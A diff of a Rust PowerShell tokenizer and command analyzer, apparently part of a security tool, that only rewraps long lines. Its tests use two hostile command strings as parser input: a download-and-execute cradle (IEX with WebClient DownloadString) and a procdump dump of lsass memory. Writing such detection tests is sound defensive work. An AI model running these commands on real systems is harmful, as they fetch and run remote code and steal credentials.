@@ -15,7 +15,10 @@ const MAX_GROUP_DEPTH: usize = 32;
 #[derive(Debug, Clone, PartialEq)]
 enum Tok {
     /// A bare word or a quoted string, unquoted.
-    Word { value: String, quoted: bool },
+    Word {
+        value: String,
+        quoted: bool,
+    },
     /// A group's inner text.
     Group(String),
     Pipe,
@@ -59,7 +62,10 @@ fn tokenize(text: &str) -> Vec<Tok> {
     let mut quoted = false;
     let flush = |word: &mut String, quoted: &mut bool, toks: &mut Vec<Tok>| {
         if !word.is_empty() || *quoted {
-            toks.push(Tok::Word { value: std::mem::take(word), quoted: *quoted });
+            toks.push(Tok::Word {
+                value: std::mem::take(word),
+                quoted: *quoted,
+            });
         }
         *quoted = false;
     };
@@ -130,14 +136,20 @@ fn tokenize(text: &str) -> Vec<Tok> {
                 }
                 flush(&mut word, &mut quoted, &mut toks);
                 let end = group_end(&chars, i + 1, close);
-                toks.push(Tok::Group(chars[i + 1..end.min(chars.len())].iter().collect()));
+                toks.push(Tok::Group(
+                    chars[i + 1..end.min(chars.len())].iter().collect(),
+                ));
                 i = end + 1;
                 continue;
             }
             ')' | '}' => {}
             '|' => {
                 flush(&mut word, &mut quoted, &mut toks);
-                toks.push(if next == Some('|') { Tok::End } else { Tok::Pipe });
+                toks.push(if next == Some('|') {
+                    Tok::End
+                } else {
+                    Tok::Pipe
+                });
                 i += if next == Some('|') { 2 } else { 1 };
                 continue;
             }
@@ -214,7 +226,10 @@ impl Analyzer<'_> {
         }
         let toks = tokenize(text);
         for statement in toks.split(|t| *t == Tok::End) {
-            let stages: Vec<&[Tok]> = statement.split(|t| *t == Tok::Pipe).filter(|s| !s.is_empty()).collect();
+            let stages: Vec<&[Tok]> = statement
+                .split(|t| *t == Tok::Pipe)
+                .filter(|s| !s.is_empty())
+                .collect();
             if stages.is_empty() {
                 continue;
             }
@@ -234,7 +249,9 @@ impl Analyzer<'_> {
     fn ps_stage(&mut self, stage: &[Tok], raw: &str, programs: &[String], index: usize, ctx: &Ctx) {
         let words: Vec<(String, bool)> = stage
             .iter()
-            .skip_while(|t| matches!(t, Tok::Word { value, quoted: false } if value == "&" || value == "."))
+            .skip_while(
+                |t| matches!(t, Tok::Word { value, quoted: false } if value == "&" || value == "."),
+            )
             .map(|t| match t {
                 Tok::Word { value, quoted } => (value.clone(), *quoted),
                 Tok::Group(g) => (format!("({g})"), false),
@@ -243,7 +260,11 @@ impl Analyzer<'_> {
             .collect();
         let program = programs.get(index).cloned().unwrap_or_default();
         let argv: Vec<String> = words.iter().map(|(v, _)| v.clone()).collect();
-        let args: Vec<String> = argv.iter().skip(1).map(|a| a.to_ascii_lowercase()).collect();
+        let args: Vec<String> = argv
+            .iter()
+            .skip(1)
+            .map(|a| a.to_ascii_lowercase())
+            .collect();
         let joined = args.join(" ");
         let mut facts = ctx.facts;
         if self.current.has(Fact::ExternalUrl) {
@@ -261,7 +282,11 @@ impl Analyzer<'_> {
             args,
             joined,
             redirects: Vec::new(),
-            piped_to: programs[index + 1..].iter().cloned().chain(ctx.sink.iter().cloned()).collect(),
+            piped_to: programs[index + 1..]
+                .iter()
+                .cloned()
+                .chain(ctx.sink.iter().cloned())
+                .collect(),
             piped_from: programs[..index].to_vec(),
             text: raw.to_string(),
             facts,
@@ -315,7 +340,10 @@ fn statement_text(statement: &[Tok]) -> String {
             out.push(' ');
         }
         match t {
-            Tok::Word { value, quoted: true } => {
+            Tok::Word {
+                value,
+                quoted: true,
+            } => {
                 out.push('\'');
                 out.push_str(value);
                 out.push('\'');
@@ -340,18 +368,39 @@ mod tests {
     #[test]
     fn tokens_groups_and_quotes() {
         let t = tokenize("IEX (New-Object Net.WebClient).DownloadString('http://x/a'); ls | iex");
-        assert_eq!(t[0], Tok::Word { value: "IEX".into(), quoted: false });
+        assert_eq!(
+            t[0],
+            Tok::Word {
+                value: "IEX".into(),
+                quoted: false
+            }
+        );
         assert_eq!(t[1], Tok::Group("New-Object Net.WebClient".into()));
         assert!(t.contains(&Tok::End));
         assert!(t.contains(&Tok::Pipe));
         let t = tokenize("Write-Host \"a `\"b`\"\" 'it''s'");
-        assert_eq!(t[1], Tok::Word { value: "a \"b\"".into(), quoted: true });
-        assert_eq!(t[2], Tok::Word { value: "it's".into(), quoted: true });
+        assert_eq!(
+            t[1],
+            Tok::Word {
+                value: "a \"b\"".into(),
+                quoted: true
+            }
+        );
+        assert_eq!(
+            t[2],
+            Tok::Word {
+                value: "it's".into(),
+                quoted: true
+            }
+        );
     }
 
     #[test]
     fn aliases_resolve() {
         assert_eq!(cmdlet("iex"), "invoke-expression");
-        assert_eq!(stage_program(&tokenize("& 'C:\\Tools\\procdump.exe' -ma lsass")), "procdump");
+        assert_eq!(
+            stage_program(&tokenize("& 'C:\\Tools\\procdump.exe' -ma lsass")),
+            "procdump"
+        );
     }
 }
